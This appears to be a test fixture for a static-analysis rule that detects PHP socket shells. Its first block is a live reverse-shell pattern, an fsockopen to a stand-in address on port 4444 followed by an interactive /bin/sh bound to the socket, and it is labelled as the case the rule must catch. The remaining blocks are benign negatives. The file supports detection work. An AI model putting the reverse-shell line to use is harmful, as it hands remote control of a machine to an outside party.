<?php
$sock = fsockopen("203.0.113.7", 4444);
// ruleid: php-socket-shell
exec("/bin/sh -i <&3 >&3 2>&3");
// ===== block =====
// ok: php-socket-shell
exec("sh build.sh", $out, $code);
// ===== block =====
$smtp = fsockopen("mail.example.com", 25, $errno, $errstr, 5);
// ok: php-socket-shell
$version = shell_exec("php -v");
